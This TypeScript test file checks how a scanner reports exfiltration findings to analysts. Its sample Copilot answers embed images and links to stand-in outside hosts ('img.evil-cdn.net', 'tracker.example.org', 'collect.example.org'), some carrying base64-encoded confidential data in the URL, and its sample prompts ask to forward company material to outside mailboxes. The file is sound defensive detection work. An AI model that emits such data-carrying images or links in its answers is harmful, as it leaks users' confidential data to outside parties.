import { openTestStore, type TestStore } from '../../support/testStore';
import { expectAnalystView } from './riskTestKit';

/**
 * What an analyst reads in each exfiltration finding the scanner writes: for a Copilot answer, an image from an
 * outside host (with or without data in its link) and an outside link carrying data; for a prompt, a request to send
 * content to a personal mailbox or to another organisation. The rule, category, severity, confidence, title and the
 * evidence as shown (a link cut to its host, an address with its mailbox masked).
 */

describe('exfiltration findings as an analyst reads them', () => {
  let t: TestStore;
  beforeAll(async () => {
    t = await openTestStore('exfilWording');
  });
  afterAll(async () => t.close());

  it('names what a Copilot answer would send out, and how sure it is', async () => {
    await expectAnalystView(
      t.store,
      [
        [
          'Here is the chart: ![chart](https://img.evil-cdn.net/c.png)',
          [
            [
              'external-image-in-response',
              'exfiltration',
              'medium',
              'medium',
              'Image from an outside host in a Copilot answer',
              ['https://img.evil-cdn.net/…'],
            ],
          ],
        ],
        [
          'Summary done. <img src="https://tracker.example.org/p.gif?d=U2FsYXJ5IGJhbmRzIDIwMjY6IDEyMA">',
          [
            [
              'external-image-in-response',
              'exfiltration',
              'medium',
              'high',
              'Image from an outside host in a Copilot answer',
              ['https://tracker.example.org/…'],
            ],
          ],
        ],
        [
          'Details at https://collect.example.org/log?q=cmVwb3J0X3EzX3JldmVudWVfMjAyNg==',
          [
            [
              'data-in-external-link',
              'exfiltration',
              'medium',
              'medium',
              'Outside link carrying data in its query in a Copilot answer',
              ['https://collect.example.org/…'],
            ],
          ],
        ],
      ],
      true,
    );
  });

  it('names a prompt asking to send content to a personal mailbox or another organisation', async () => {
    await expectAnalystView(t.store, [
      [
        'Forward the Q3 board deck to my personal address jamie.lee84@gmail.com',
        [
          [
            'personal-email',
            'personal_data',
            'low',
            'high',
            'Personal e-mail address in a prompt',
            ['j••••@gmail.com'],
          ],
          [
            'send-to-personal-address',
            'exfiltration',
            'medium',
            'high',
            'Asked to send content to a personal mailbox in a prompt',
            ['j••••@gmail.com'],
          ],
        ],
      ],
      [
        'Send the customer list to buyer@fabrikam.com before Friday',
        [
          [
            'send-to-external-address',
            'exfiltration',
            'low',
            'low',
            'Asked to send content outside the organisation in a prompt',
            ['b••••@fabrikam.com'],
          ],
        ],
      ],
    ]);
  });
});
